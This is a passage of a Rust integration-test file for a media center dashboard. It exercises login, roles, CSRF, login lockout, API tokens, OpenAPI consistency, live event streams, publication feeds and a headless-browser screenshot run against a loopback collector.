//! The media center's dashboard and API (issue 7), served by an in-process collector on
//! loopback and driven over real HTTP: authentication on every route, roles, CSRF, login
//! throttling, API tokens, the OpenAPI document against the router, the fleet board seeing a
//! site go offline, the live event stream, and the publication feeds. All content is invented.

use pasopati_collector::store::Role;
use pasopati_collector::web::{Access, RouteKind, ROUTES};
use pasopati_tests::*;
use serde_json::Value;
use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

const PASSWORD: &str = "sandi-uji-yang-panjang";

fn concrete(path: &str) -> String {
    path.replace("{id}", "1")
}

async fn collector_with_users(dir: &std::path::Path) -> TestCollector {
    let c = TestCollector::start(dir, ([127, 0, 0, 1], 0).into()).await;
    add_dashboard_user(&c.store, "admin1", Role::Admin, PASSWORD);
    add_dashboard_user(&c.store, "analis1", Role::Analyst, PASSWORD);
    add_dashboard_user(&c.store, "pemirsa1", Role::Viewer, PASSWORD);
    c
}

/// A temporary folder with a collector and its three users in `<tmp>/collector`; returns the
/// dashboard's address too.
async fn dashboard_in_tempdir() -> (tempfile::TempDir, TestCollector, SocketAddr) {
    configured_dashboard("collector", |t| t).await
}

/// [`dashboard_in_tempdir`] in `<tmp>/<folder>`, with its collector.toml rewritten by `edit`.
async fn configured_dashboard(
    folder: &str,
    edit: impl FnOnce(String) -> String,
) -> (tempfile::TempDir, TestCollector, SocketAddr) {
    let tmp = tempdir();
    let dir = tmp.path().join(folder);
    init_collector_with(&dir, edit);
    let c = collector_with_users(&dir).await;
    let addr = c.dashboard();
    (tmp, c, addr)
}

/// 1. Anonymous requests to every route but `/login` and `/healthz` are refused (pages
/// redirect to the login form, everything else is 401); a viewer can change nothing (403);
/// a form without the session's CSRF token is refused; an API token works until its user is
/// disabled; five wrong passwords lock the login.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
    let bins = bins!();
    let (_tmp, c, addr) = dashboard_in_tempdir().await;

    for r in ROUTES {
        let reply = http_call(addr, r.method, &concrete(r.path), &[], "").await;
        match r.access {
            Access::Public => assert!(
                reply.status != 401 && reply.status != 403,
                "{} {} is public: {}",
                r.method,
                r.path,
                reply.status
            ),
            _ if r.kind == RouteKind::Page => {
                assert_eq!(reply.status, 303, "{} {}", r.method, r.path);
                assert_eq!(reply.header("location"), Some("/login"), "{}", r.path);
            }
            _ => assert_eq!(reply.status, 401, "{} {}", r.method, r.path),
        }
    }
    assert_eq!(http_get(addr, "/healthz", &[]).await.body, "ok");

    // A viewer may read but change nothing, even with a valid CSRF token.
    let (viewer, viewer_csrf) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    for r in ROUTES
        .iter()
        .filter(|r| r.method == "POST" && r.access != Access::Public && r.path != "/logout")
    {
        let fields = [
            ("csrf", viewer_csrf.as_str()),
            ("claim", "x"),
            ("report", "x"),
            ("verdict", "salah"),
        ];
        let reply = post_form(addr, &concrete(r.path), &viewer, &fields).await;
        assert_eq!(reply.status, 403, "viewer on {}: {}", r.path, reply.body);
    }
    assert_eq!(
        http_get(addr, "/armada", &[("Cookie", &viewer)])
            .await
            .status,
        200
    );

    // An analyst's form without the CSRF token is refused; with it, it goes through.
    let (analyst, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
    let form = |with_csrf: bool| {
        let mut fields = vec![
            ("claim", "Klaim uji: 52 napi kabur"),
            ("url", "https://contoh.example/1"),
            ("source", "Portal Uji"),
        ];
        if with_csrf {
            fields.push(("csrf", &csrf));
        }
        form_body(&fields)
    };
    let headers = [
        ("Cookie", analyst.as_str()),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let refused = http_call(addr, "POST", "/verifikasi", &headers, &form(false)).await;
    assert_eq!(refused.status, 403);
    assert!(refused.body.contains("CSRF"), "{}", refused.body);
    let wrong = form(false) + "&csrf=palsu";
    assert_eq!(
        http_call(addr, "POST", "/verifikasi", &headers, &wrong)
            .await
            .status,
        403
    );
    let done = http_call(addr, "POST", "/verifikasi", &headers, &form(true)).await;
    assert_eq!(done.status, 303, "{}", done.body);
    let claims = http_get(addr, "/api/v1/claims", &[("Cookie", &viewer)]).await;
    let claims: Value = serde_json::from_str(&claims.body).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(claims["total"], 1);
    assert_eq!(
        claims["items"][0]["claimReviewed"],
        "Klaim uji: 52 napi kabur"
    );
    let audit = c.store.audit_log().unwrap_or_else(|e| panic!("{e}"));
    assert!(
        audit
            .iter()
            .filter_map(|(_, e)| e.as_ref().ok())
            .any(|e| e.action == "claim_add" && e.actor == "dashboard:analis1"),
        "the change is not in the audit log"
    );

    // API tokens: read with a viewer's token, refused to change, dead once the user is disabled.
    let d = path_str(&c.dir).to_owned();
    let bearer = api_bearer(&bins, &c.dir, "pemirsa1", &[]);
    let list = http_get(
        addr,
        "/api/v1/reports?format=csv",
        &[("Authorization", &bearer)],
    )
    .await;
    assert_eq!(list.status, 200);
    assert!(list
        .header("content-type")
        .is_some_and(|t| t.starts_with("text/csv")));
    let bearer_form = [
        ("Authorization", bearer.as_str()),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let post = http_call(addr, "POST", "/verifikasi", &bearer_form, &form(false)).await;
    assert_eq!(post.status, 403);
    run_ok(
        &bins.collector,
        &[
            "user",
            "disable",
            "--data-dir",
            &d,
            "--username",
            "pemirsa1",
        ],
    );
    assert_eq!(
        http_get(addr, "/api/v1/reports", &[("Authorization", &bearer)])
            .await
            .status,
        401
    );
    assert_eq!(
        http_get(addr, "/", &[("Cookie", &viewer)]).await.status,
        303
    );

    // Five wrong passwords lock the account's login, even for the right password afterwards.
    for _ in 0..5 {
        let wrong = login_attempt(addr, "admin1", "salah-sekali-ya", &[]).await;
        assert_eq!(wrong.status, 401);
    }
    let locked = login_attempt(addr, "admin1", PASSWORD, &[]).await;
    assert_eq!(locked.status, 429, "{}", locked.body);
}

/// 5. The OpenAPI document parses and lists exactly the routes the router serves, and the
/// router answers each of them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_openapi_document_lists_every_route() {
    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
    let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
    let doc = http_get(addr, "/api/v1/openapi.json", &[("Cookie", &admin)]).await;
    let doc: Value = serde_json::from_str(&doc.body).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(doc["openapi"], "3.1.0");
    let mut documented = BTreeSet::new();
    for (path, ops) in doc["paths"].as_object().into_iter().flatten() {
        for method in ops
            .as_object()
            .into_iter()
            .flatten()
            .map(|(m, _)| m.to_uppercase())
        {
            documented.insert((method, path.clone()));
        }
    }
    let served: BTreeSet<(String, String)> = ROUTES
        .iter()
        .map(|r| (r.method.to_owned(), r.path.to_owned()))
        .collect();
    assert_eq!(documented, served);
    // Every documented GET route is routed (the router's fallback says `rute tidak dikenal`).
    for r in ROUTES
        .iter()
        .filter(|r| r.method == "GET" && r.path != "/api/v1/events")
    {
        let reply = http_call(addr, "GET", &concrete(r.path), &[("Cookie", &admin)], "").await;
        assert!(
            !reply.body.contains("rute tidak dikenal"),
            "{} is not routed",
            r.path
        );
    }
    let unknown = http_get(addr, "/tidak-ada", &[("Cookie", &admin)]).await;
    assert_eq!(unknown.status, 404);
    assert!(unknown.body.contains("rute tidak dikenal"));
}

/// Reads server-sent events from `/api/v1/events` into a channel: (event name, data).
/// 3. The fleet board shows a site going offline after its agent stops; the event stream
/// carries a new urgent report (with the time it took printed) and the state change.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn armada_shows_a_site_going_offline_and_events_stream_live() {
    let bins = bins!();
    let (tmp, c, addr) = configured_dashboard("collector", offline_after("3s")).await;
    let agent_dir = tmp.path().join("agent");
    c.enroll_agent(&agent_dir, "lapas-uji").await;
    let (handle, running) = start_agent(&agent_dir);
    let bearer = api_bearer(&bins, &c.dir, "pemirsa1", &[]);
    let state_of = |body: &str| -> Option<String> {
        let v: Value = serde_json::from_str(body).ok()?;
        v["items"]
            .as_array()?
            .iter()
            .find(|s| s["id"] == "lapas-uji")
            .and_then(|s| s["state"].as_str().map(str::to_owned))
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let sites = http_get(addr, "/api/v1/sites", &[("Authorization", &bearer)]).await;
        if state_of(&sites.body).as_deref() == Some("online") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the site never came online: {}",
            sites.body
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    let mut events = subscribe_events(addr, ("Authorization", &bearer)).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut urgent = draft(1);
    urgent.priority = Some(pasopati_common::Priority::Urgent);
    urgent.title = "Kebakaran kecil di dapur (uji)".into();
    let filed_at = Instant::now();
    let report = handle.file(urgent).unwrap_or_else(|e| panic!("{e}"));
    let latency = loop {
        match tokio::time::timeout(Duration::from_secs(10), events.recv()).await {
            Ok(Some((name, data))) if name == "report" && data["id"] == report.id.to_string() => {
                assert_eq!(data["priority"], "urgent");
                break filed_at.elapsed();
            }
            Ok(Some(_)) => continue,
            other => panic!("no report event: {other:?}"),
        }
    };
    println!(
        "urgent report from filing at the agent to the event stream: {} ms",
        latency.as_millis()
    );

    running.stop().await;
    let (cookie, _) = dashboard_login(addr, "admin1", PASSWORD).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let page = get_with_cookie(addr, "/armada", &cookie).await;
        let row = armada_row(&page.body, "lapas-uji");
        if row.contains("class=\"offline\"") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "Armada never showed the site offline: {row}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let saw_offline = loop {
        match tokio::time::timeout(Duration::from_secs(10), events.recv()).await {
            Ok(Some((name, data)))
                if name == "site" && data["id"] == "lapas-uji" && data["state"] == "offline" =>
            {
                break true
            }
            Ok(Some(_)) => continue,
            _ => break false,
        }
    };
    assert!(
        saw_offline,
        "the event stream did not carry the state change"
    );
}

/// 4. A report drafted into a press release and approved appears in the Atom and JSON feeds;
/// the Atom document is well-formed XML with the required elements, the JSON one has the
/// JSON Feed 1.1 fields.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_published_item_appears_in_valid_feeds() {
    let (tmp, c, addr) = dashboard_in_tempdir().await;
    let mut d = draft(7);
    d.title = "Panen sayur & buah <kebun> pembinaan".into();
    let report = sync_reports(&c, &tmp.path().join("agent"), vec![d]).await[0].clone();

    let (cookie, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
    let id = report.id.to_string();
    let publish = [("csrf", csrf.as_str()), ("report", id.as_str())];
    let drafted = post_form(addr, "/publikasi", &cookie, &publish).await;
    assert_eq!(drafted.status, 303, "{}", drafted.body);
    let feed = http_get(addr, "/feed/feed.json", &[("Cookie", &cookie)]).await;
    assert!(!feed.body.contains("Panen sayur"), "a draft was published");
    let approved = post_form(addr, "/publikasi/1/setujui", &cookie, &[("csrf", &csrf)]).await;
    assert_eq!(approved.status, 303, "{}", approved.body);

    let atom = http_get(addr, "/feed/atom.xml", &[("Cookie", &cookie)]).await;
    assert!(atom
        .header("content-type")
        .is_some_and(|t| t.starts_with("application/atom+xml")));
    let mut reader = quick_xml::Reader::from_str(&atom.body);
    let mut stack: Vec<String> = Vec::new();
    let mut seen: BTreeSet<String> = BTreeSet::new();
    let mut title = String::new();
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Start(e)) => {
                let name = String::from_utf8_lossy(e.name().as_ref()).into_owned();
                stack.push(name);
                seen.insert(stack.join("/"));
            }
            Ok(quick_xml::events::Event::Empty(e)) => {
                let name = String::from_utf8_lossy(e.name().as_ref()).into_owned();
                seen.insert(format!("{}/{name}", stack.join("/")));
            }
            Ok(quick_xml::events::Event::Text(t)) if stack.join("/") == "feed/entry/title" => {
                title.push_str(&t.xml_content().unwrap_or_default());
            }
            Ok(quick_xml::events::Event::GeneralRef(r))
                if stack.join("/") == "feed/entry/title" =>
            {
                let name = r.decode().unwrap_or_default();
                title.push_str(match name.as_ref() {
                    "amp" => "&",
                    "lt" => "<",
                    "gt" => ">",
                    _ => "?",
                });
            }
            Ok(quick_xml::events::Event::End(_)) => {
                stack.pop();
            }
            Ok(quick_xml::events::Event::Eof) => break,
            Ok(_) => {}
            Err(e) => panic!("the Atom feed is not well-formed XML: {e}\n{}", atom.body),
        }
    }
    assert!(stack.is_empty(), "unclosed elements: {stack:?}");
    for required in [
        "feed",
        "feed/id",
        "feed/title",
        "feed/updated",
        "feed/author",
        "feed/entry",
        "feed/entry/id",
        "feed/entry/title",
        "feed/entry/updated",
        "feed/entry/content",
        "feed/entry/link",
    ] {
        assert!(
            seen.contains(required),
            "the Atom feed lacks {required}: {seen:?}"
        );
    }
    assert!(
        title.contains("Panen sayur & buah <kebun> pembinaan"),
        "{title}"
    );

    let json = http_get(addr, "/feed/feed.json", &[("Cookie", &cookie)]).await;
    let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(feed["version"], "https://jsonfeed.org/version/1.1");
    assert!(feed["title"].is_string() && feed["feed_url"].is_string());
    let item = &feed["items"][0];
    assert!(item["id"].is_string());
    assert!(item["content_text"]
        .as_str()
        .is_some_and(|t| t.contains("Ditjenpas")));
    assert!(item["title"]
        .as_str()
        .is_some_and(|t| t.contains("Panen sayur")));
    assert!(item["date_published"]
        .as_str()
        .is_some_and(|t| pasopati_common::Timestamp::parse_rfc3339(t).is_ok()));
}

/// A WebDriver session on Debian's chromedriver and headless chromium. Chromedriver runs in a
/// process group of its own, which the browsers it starts join; dropping the `Browser` ends the
/// WebDriver session (which closes chromium), then ends the whole group, so no chromium and no
/// profile folder outlive the test, even when it fails.
struct Browser {
    driver: std::process::Child,
    addr: SocketAddr,
    session: String,
}

const ELEMENT: &str = "element-6066-11e4-a52e-4f735466cecf";

impl Browser {
    async fn start(profile: &std::path::Path) -> Browser {
        let port = {
            let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
            l.local_addr()
                .map(|a| a.port())
                .unwrap_or_else(|e| panic!("{e}"))
        };
        use std::os::unix::process::CommandExt;
        let driver = std::process::Command::new("chromedriver")
            .arg(format!("--port={port}"))
            .process_group(0)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("starting chromedriver: {e}"));
        let addr: SocketAddr = ([127, 0, 0, 1], port).into();
        let deadline = Instant::now() + Duration::from_secs(20);
        while tokio::net::TcpStream::connect(addr).await.is_err() {
            assert!(Instant::now() < deadline, "chromedriver did not start");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let caps = serde_json::json!({"capabilities": {"alwaysMatch": {
            "browserName": "chrome",
            "goog:chromeOptions": {
                "binary": "/usr/bin/chromium",
                "args": ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                         "--disable-quic", "--no-first-run", "--disable-background-networking",
                         "--disable-component-update", "--disable-sync", "--window-size=1280,1000",
                         format!("--user-data-dir={}", profile.display())],
            }
        }}});
        let mut browser = Browser {
            driver,
            addr,
            session: String::new(),
        };
        let v = browser.call("POST", "/session", caps).await;
        browser.session = v["value"]["sessionId"]
            .as_str()
            .unwrap_or_else(|| panic!("no session: {v}"))
            .to_owned();
        browser
    }

    async fn call(&self, method: &str, path: &str, body: Value) -> Value {
        let text = if method == "GET" {
            String::new()
        } else {
            body.to_string()
        };
        let reply = http_call(
            self.addr,
            method,
            path,
            &[("Content-Type", "application/json")],
            &text,
        )
        .await;
        serde_json::from_str(&reply.body)
            .unwrap_or_else(|e| panic!("webdriver {path}: {e}: {}", reply.body))
    }

    async fn cmd(&self, method: &str, what: &str, body: Value) -> Value {
        let path = format!("/session/{}{what}", self.session);
        self.call(method, &path, body).await
    }

    async fn go(&self, url: &str) {
        self.cmd("POST", "/url", serde_json::json!({"url": url}))
            .await;
    }

    async fn script(&self, js: &str) -> Value {
        self.cmd(
            "POST",
            "/execute/sync",
            serde_json::json!({"script": js, "args": []}),
        )
        .await["value"]
            .clone()
    }

    /// Finds an element by CSS selector and sends it a command (`value`, `click`).
    async fn on_element(&self, css: &str, command: &str, body: Value) {
        let el = self
            .cmd(
                "POST",
                "/element",
                serde_json::json!({"using": "css selector", "value": css}),
            )
            .await;
        let id = el["value"][ELEMENT]
            .as_str()
            .unwrap_or_else(|| panic!("no element {css}: {el}"))
            .to_owned();
        self.cmd("POST", &format!("/element/{id}/{command}"), body)
            .await;
    }

    async fn type_into(&self, css: &str, text: &str) {
        self.on_element(css, "value", serde_json::json!({"text": text}))
            .await;
    }

    async fn click(&self, css: &str) {
        self.on_element(css, "click", serde_json::json!({})).await;
    }

    /// Saves the page as a PNG. Chromium on a loaded machine sometimes answers a capture with
    /// an error (the renderer did not reply in time); the capture is then tried twice more, a
    /// second apart, and the last error is what a failure shows.
    async fn screenshot(&self, file: &std::path::Path) {
        let mut last = Value::Null;
        for attempt in 0..3 {
            if attempt > 0 {
                println!("screenshot {} retried after: {last}", file.display());
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
            let v = self.cmd("GET", "/screenshot", Value::Null).await;
            let png = base64_decode(v["value"].as_str().unwrap_or_default());
            if png.starts_with(b"\x89PNG") {
                std::fs::write(file, png).unwrap_or_else(|e| panic!("{e}"));
                return;
            }
            last = v;
        }
        panic!(
            "no PNG screenshot of {} from chromedriver: {last}",
            file.display()
        );
    }
}

impl Browser {
    /// Ends the WebDriver session with a plain blocking `DELETE /session/{id}` (a drop cannot
    /// await), waiting at most a few seconds for chromedriver's answer.
    fn end_session(&self) {
        use std::io::{Read, Write};
        if self.session.is_empty() {
            return;
        }
        let Ok(mut stream) =
            std::net::TcpStream::connect_timeout(&self.addr, Duration::from_secs(2))
        else {
            return;
        };
        let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
        let request = format!(
            "DELETE /session/{} HTTP/1.1\r\nHost: {}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            self.session, self.addr
        );
        if stream.write_all(request.as_bytes()).is_ok() {
            let mut reply = Vec::new();
            let _ = stream.read_to_end(&mut reply);
        }
    }

    /// Sends `signal` to chromedriver's whole process group.
    fn signal_group(&self, signal: &str) {
        let _ = std::process::Command::new("kill")
            .args([signal, "--", &format!("-{}", self.driver.id())])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        self.end_session();
        self.signal_group("-TERM");
        let deadline = Instant::now() + Duration::from_secs(3);
        while Instant::now() < deadline && !group_members(self.driver.id()).is_empty() {
            std::thread::sleep(Duration::from_millis(50));
        }
        self.signal_group("-KILL");
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }
}

/// The processes of a process group, from /proc (zombies included until reaped).
fn group_members(group: u32) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<u32>().ok())
        else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(entry.path().join("stat")) else {
            continue;
        };
        // Fields after the command's closing parenthesis: state, ppid, pgrp, ...
        let fields: Vec<&str> = stat
            .rsplit_once(')')
            .map(|(_, rest)| rest.split_whitespace().collect())
            .unwrap_or_default();
        if fields.get(2).and_then(|g| g.parse::<u32>().ok()) == Some(group)
            && fields.first() != Some(&"Z")
        {
            found.push(pid);
        }
    }
    found
}

/// Live processes whose command line names `needle` (the test's chromium profile folder).
fn processes_naming(needle: &std::path::Path) -> Vec<String> {
    let needle = needle.display().to_string();
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        if entry
            .file_name()
            .to_str()
            .is_none_or(|n| n.parse::<u32>().is_err())
        {
            continue;
        }
        let zombie = std::fs::read_to_string(entry.path().join("stat"))
            .ok()
            .and_then(|s| {
                s.rsplit_once(')')
                    .map(|(_, r)| r.trim_start().starts_with('Z'))
            })
            .unwrap_or(true);
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if !zombie && text.contains(&needle) {
            found.push(text);
        }
    }
    found
}

fn base64_decode(text: &str) -> Vec<u8> {
    let value = |c: u8| -> Option<u32> {
        Some(match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        } as u32)
    };
    let mut out = Vec::with_capacity(text.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0);
    for v in text.bytes().filter_map(value) {
        acc = acc << 6 | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    out
}

/// 2. In a real browser (Debian's chromium, headless, over WebDriver): log in, open
/// Peringatan, file an urgent report at an agent and see it appear without a reload; every
/// page is saved as a screenshot in `target/test-artifacts/dashboard/`. Runs when chromedriver
/// is installed (`.ci/run` installs it and sets `PASOPATI_BROWSER=1`, which makes a missing
/// browser a failure).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_a_browser_an_urgent_report_appears_live() {
    let have = std::path::Path::new("/usr/bin/chromedriver").exists()
        && std::path::Path::new("/usr/bin/chromium").exists();
    if !have {
        assert!(
            std::env::var_os("PASOPATI_BROWSER").is_none(),
            "PASOPATI_BROWSER is set but chromium or chromedriver is missing"
        );
        pasopati_tests::skipped("browser test", "chromium and chromedriver are not installed (apt-get install chromium chromium-driver; PASOPATI_BROWSER=1 makes this a failure)");
        return;
    }
    let tmp = tempdir();
    let c = collector_with_users(&tmp.path().join("collector")).await;
    let base = format!("http://{}", c.dashboard());
    // Sites named as the gazetteer names them, in WIB and WITA, so that the screenshots show
    // names, labels and each site's local time.
    let agent = enroll_named(&c, &tmp.path().join("agent"), CIPINANG).await;
    let other = enroll_named(&c, &tmp.path().join("agent-2"), MAKASSAR).await;
    let handle = agent.handle();
    for i in 0..4 {
        handle.file(draft(i)).unwrap_or_else(|e| panic!("{e}"));
    }
    let mut notable = draft(4);
    notable.category = "kejadian_menonjol".into();
    notable.title = "Kebakaran kecil di dapur berhasil dipadamkan".into();
    let other_report = other
        .handle()
        .file(notable)
        .unwrap_or_else(|e| panic!("{e}"));
    let other_running = run_agent(other);
    let running = run_agent(agent);
    import_media_fixture(&c);
    c.wait_for_reports("the first reports stored", 5, Duration::from_secs(30))
        .await;

    let profile = tmp.path().join("chromium-profile");
    let browser = Browser::start(&profile).await;
    assert!(
        !processes_naming(&profile).is_empty(),
        "no chromium process names the profile; the leftover check below would prove nothing"
    );
    browser.go(&format!("{base}/login")).await;
    browser.type_into("input[name=username]", "analis1").await;
    browser.type_into("input[name=password]", PASSWORD).await;
    browser.click("button[type=submit]").await;
    // The click may return before the form's navigation ends (Argon2 takes a moment).
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let here = browser.script("return location.pathname").await;
        if here == "/" {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "login did not land on Ringkasan: {here}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    browser.go(&format!("{base}/peringatan")).await;
    let deadline = Instant::now() + Duration::from_secs(10);
    while browser
        .script("return document.getElementById('status').textContent")
        .await
        != "tersambung"
    {
        assert!(Instant::now() < deadline, "the live feed did not connect");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut urgent = draft(99);
    urgent.priority = Some(pasopati_common::Priority::Urgent);
    urgent.title = "Kebakaran kecil di dapur umum (uji peramban)".into();
    let filed = Instant::now();
    handle.file(urgent).unwrap_or_else(|e| panic!("{e}"));
    let latency = loop {
        let text = browser
            .script("return document.getElementById('umpan').innerText")
            .await;
        if text
            .as_str()
            .is_some_and(|t| t.contains("Kebakaran kecil di dapur umum (uji peramban)"))
        {
            break filed.elapsed();
        }
        assert!(
            filed.elapsed() < Duration::from_secs(10),
            "the urgent report never appeared: {text}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    println!(
        "urgent report on the Peringatan page without reload after {} ms",
        latency.as_millis()
    );
    assert!(
        latency < Duration::from_secs(3),
        "took {} ms",
        latency.as_millis()
    );
    let reloads = browser
        .script("return performance.getEntriesByType('navigation').length")
        .await;
    assert_eq!(reloads, 1, "the page was reloaded");

    let shots =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/test-artifacts/dashboard");
    std::fs::create_dir_all(&shots).unwrap_or_else(|e| panic!("{e}"));
    browser.screenshot(&shots.join("peringatan.png")).await;
    let detail = format!("/laporan/{}", other_report.id);
    let morning = format!(
        "/pagi?tanggal={}",
        pasopati_analysis::insight::date_string(pasopati_analysis::insight::day_of(
            pasopati_common::Timestamp::now().0
        ))
    );
    let story = c
        .newsroom
        .stories()
        .unwrap_or_else(|e| panic!("{e}"))
        .iter()
        .max_by_key(|s| s.items.len())
        .map(|s| format!("/cerita/{}", s.id))
        .unwrap_or_else(|| panic!("no story"));
    for (path, name) in [
        (story.as_str(), "cerita-detail"),
        ("/risiko", "risiko"),
        ("/sumber", "sumber"),
        ("/", "ringkasan"),
        (detail.as_str(), "laporan-detail"),
        ("/publikasi/ringkasan-harian", "ringkasan-harian"),
        ("/laporan", "laporan"),
        ("/cerita", "cerita"),
        ("/tren", "tren"),
        ("/armada", "armada"),
        ("/verifikasi", "verifikasi"),
        ("/publikasi", "publikasi"),
        ("/cakupan", "cakupan"),
        (morning.as_str(), "pagi"),
    ] {
        browser.go(&format!("{base}{path}")).await;
        browser.screenshot(&shots.join(format!("{name}.png"))).await;
    }
    println!("screenshots in {}", shots.display());
    drop(browser);
    let left = processes_naming(&profile);
    assert!(left.is_empty(), "chromium outlived the test: {left:?}");
    running.stop().await;
    other_running.stop().await;
}

/// `http_call` with a time limit, for answers that may never end (the event stream).
async fn http_call_within(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Option<HttpReply> {
    tokio::time::timeout(
        Duration::from_secs(5),
        http_call(addr, method, path, headers, body),
    )
    .await
    .ok()
}

/// The headers of an answer that may depend on what a handler computed (everything but the
/// date, which changes by the second).
fn shape(reply: &HttpReply) -> (u16, Vec<(String, String)>, String) {
    let mut headers: Vec<(String, String)> = reply
        .headers
        .iter()
        .filter(|(k, _)| !k.eq_ignore_ascii_case("date"))
        .map(|(k, v)| (k.to_lowercase(), v.clone()))
        .collect();
    headers.sort();
    (reply.status, headers, reply.body.clone())
}

/// Issue 11, point 1. The access rule denies by default and judges HEAD exactly as GET: every
/// row of the route table under every method, anonymously and as each role. An anonymous
/// answer is only a redirect to the login form, 401, 404 or 405, the same whatever the query
/// (so nothing a handler computed leaks); a role below the row's gets 403; a signed-in HEAD
/// is answered like GET, without a body and never with 500.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn head_requests_are_judged_as_get_and_unknown_methods_are_refused() {
    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
    let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
    let (analyst, _) = dashboard_login(addr, "analis1", PASSWORD).await;
    let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
    let people: [(&str, Option<(&str, Role)>); 4] = [
        ("anonim", None),
        ("viewer", Some((viewer.as_str(), Role::Viewer))),
        ("analyst", Some((analyst.as_str(), Role::Analyst))),
        ("admin", Some((admin.as_str(), Role::Admin))),
    ];
    let methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
    for r in ROUTES {
        let path = concrete(r.path);
        let serves = |row: &str, m: &str| m == row || (m == "HEAD" && row == "GET");
        let allowed = |m: &str| {
            ROUTES
                .iter()
                .any(|x| x.path == r.path && serves(x.method, m))
        };
        for method in methods {
            for (who, person) in &people {
                let cookie = person.as_ref().map(|(c, _)| *c).unwrap_or_default();
                let headers: Vec<(&str, &str)> = if cookie.is_empty() {
                    Vec::new()
                } else {
                    vec![("Cookie", cookie)]
                };
                let streaming = r.path == "/api/v1/events" && method == "GET" && person.is_some();
                if streaming {
                    continue;
                }
                let ask = |q: &str| {
                    let target = format!("{path}{q}");
                    let headers = headers.clone();
                    async move {
                        http_call_within(addr, method, &target, &headers, "")
                            .await
                            .unwrap_or_else(|| panic!("{method} {target} as {who}: no answer"))
                    }
                };
                let reply = ask("").await;
                let context = format!("{method} {path} as {who}: {} {}", reply.status, reply.body);
                if !allowed(method) {
                    assert_eq!(reply.status, 405, "{context}");
                    assert!(reply.header("allow").is_some(), "{context}");
                    continue;
                }
                if !serves(r.method, method) {
                    // Another row of the same path judges this method.
                    continue;
                }
                if method == "HEAD" {
                    assert!(reply.body.is_empty(), "{context}");
                    assert_ne!(reply.status, 500, "{context}");
                }
                match (r.access, person) {
                    (Access::Public, _) => {}
                    (_, None) => {
                        if r.kind == RouteKind::Page {
                            assert_eq!(reply.status, 303, "{context}");
                            assert_eq!(reply.header("location"), Some("/login"), "{context}");
                        } else {
                            assert_eq!(reply.status, 401, "{context}");
                        }
                        // The same answer whatever the query asks for.
                        let a = ask("?q=a").await;
                        let b = ask("?q=kata-yang-panjang-sekali&limit=1000").await;
                        assert_eq!(shape(&a), shape(&b), "{context}");
                        assert_eq!(shape(&a), shape(&reply), "{context}");
                    }
                    (access, Some((_, role))) if !access.allows(role) => {
                        assert_eq!(reply.status, 403, "{context}");
                    }
                    (_, Some(_)) => {
                        // A handler may find nothing (404), but the route is always known.
                        assert!(
